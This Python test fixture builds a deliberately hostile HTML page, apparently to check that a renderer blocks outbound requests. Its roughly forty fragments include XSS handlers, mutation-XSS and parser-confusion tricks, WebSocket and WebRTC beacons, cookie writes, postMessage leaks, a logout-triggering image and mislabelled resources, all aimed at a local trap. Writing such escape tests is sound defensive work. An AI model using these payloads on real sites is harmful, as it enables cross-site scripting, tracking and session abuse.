"""Pages that try to get out: by HTTP, by WebSocket, by UDP, by names, and into the application. `{port}` is a trap's."""

TRAP = "http://127.0.0.1:{port}"

# Each says by its path who called.
PIECES = [
    '<script>fetch("{trap}/script")</script>',
    '<script src="{trap}/script-src"></script>',
    '<script type="module">import "{trap}/module"</script>',
    '<img src="{trap}/image">',
    '<img src="{trap}/set" srcset="{trap}/srcset 1x, {trap}/srcset2 2x">',
    '<picture><source srcset="{trap}/source"><img></picture>',
    '<img src="x" onerror="fetch(\'{trap}/onerror\')">',
    '<svg onload="fetch(\'{trap}/svg\')"><image href="{trap}/svg-image"/><use href="{trap}/use#x"/></svg>',
    '<svg><style>@import url({trap}/svg-style);</style><foreignObject><img src="{trap}/foreign"></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={trap}/mutated&gt;">',
    '<meta http-equiv="refresh" content="0;url={trap}/refresh">',
    '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    '<base href="{trap}/base/">',
    '<link rel="stylesheet" href="{trap}/stylesheet">',
    '<link rel="prefetch" href="{trap}/prefetch"><link rel="preload" as="image" href="{trap}/preload">',
    '<link rel="prerender" href="{trap}/prerender"><link rel="modulepreload" href="{trap}/modulepreload">',
    '<link rel="preconnect" href="http://preconnect.trap.test:{port}"><link rel="dns-prefetch" href="//dns-prefetch.trap.test">',
    '<link rel="icon" href="{trap}/icon"><link rel="manifest" href="{trap}/manifest">',
    '<a href="http://link.trap.test/" ping="{trap}/ping">a link</a><a href="javascript:fetch(\'{trap}/href\')">another</a>',
    '<iframe src="{trap}/iframe"></iframe><iframe srcdoc="&lt;img src={trap}/srcdoc&gt;"></iframe>',
    '<object data="{trap}/object"></object><embed src="{trap}/embed"><portal src="{trap}/portal"></portal>',
    '<form action="{trap}/form" id="f"><input name="a" autofocus onfocus="this.form.submit()"><button>go</button></form>',
    '<input type="image" src="{trap}/input-image"><button formaction="{trap}/formaction">press</button>',
    '<video src="{trap}/video" poster="{trap}/poster" autoplay></video><audio src="{trap}/audio" autoplay></audio>',
    '<video><track src="{trap}/track"><source src="{trap}/video-source"></video>',
    '<div style="background:url({trap}/style)">styled</div><table background="{trap}/background"><tr><td>cell</table>',
    '<style>@import url("{trap}/import"); @font-face {{ font-family: x; src: url({trap}/font) }} body {{ font-family: x; background: url({trap}/css) }}</style>',
    '<script>new WebSocket("ws://127.0.0.1:{port}/websocket")</script>',
    '<script>const p = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))</script>',
    '<script>navigator.serviceWorker.register("/worker.js"); navigator.sendBeacon("{trap}/beacon"); new EventSource("{trap}/events")</script>',
    '<script>document.cookie = "stolen=1"; localStorage.stolen = 1; top.location = "{trap}/top"; parent.postMessage(document.domain, "*")</script>',
    '<body onload="fetch(\'{trap}/onload\')" background="{trap}/body"><p onmouseover="fetch(\'{trap}/over\')">text',
    '<img src="data:image/svg+xml,&lt;svg onload=fetch(&quot;{trap}/data&quot;)&gt;"><iframe src="data:text/html,&lt;script&gt;fetch(&quot;{trap}/data-html&quot;)&lt;/script&gt;"></iframe>',
    '<template shadowrootmode="open"><img src="{trap}/shadow"><script>fetch("{trap}/shadow-script")</script></template>',
    '<noscript><p title="</noscript><img src={trap}/noscript>">',
    '<textarea></p><img src={trap}/textarea></textarea><title></title><img src={trap}/title>',
    '<!--><img src={trap}/comment>--><![CDATA[<img src={trap}/cdata>]]><?php <img src={trap}/php> ?>',
    '<im\x00g src={trap}/nul><p/onclick=fetch("{trap}/slash")>&lt;img src={trap}/escaped&gt;',
    '</main></body></html><img src={trap}/after><script>fetch("{trap}/after-script")</script>',
    '<img src="http://replay-name.trap.test/a"><img src="//[::1]:{port}/v6"><img src="ftp://127.0.0.1:{port}/ftp"><img src="/looks/"><img src="../../account/logout/">',
    '<plaintext><img src={trap}/plaintext>',
]  # fmt: skip


def written(piece, port):
    """One of them, with the trap's address."""
    return piece.format(trap=TRAP.format(port=port), port=port)


def page(port):
    """All of them in one page."""
    pieces = "\n".join(written(piece, port) for piece in PIECES)
    return f"<!doctype html><html><head><title>Hostile</title></head><body><h1>Hostile</h1>{pieces}"


def resources(port):
    """Answers that lie about their kind, under addresses that the page names."""
    trap, lie = TRAP.format(port=port), page(port).encode()
    return {
        f"{trap}/image": ("image/png", lie),
        f"{trap}/set": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/x\')"/>'),
        f"{trap}/icon": ("text/html", lie),
    }
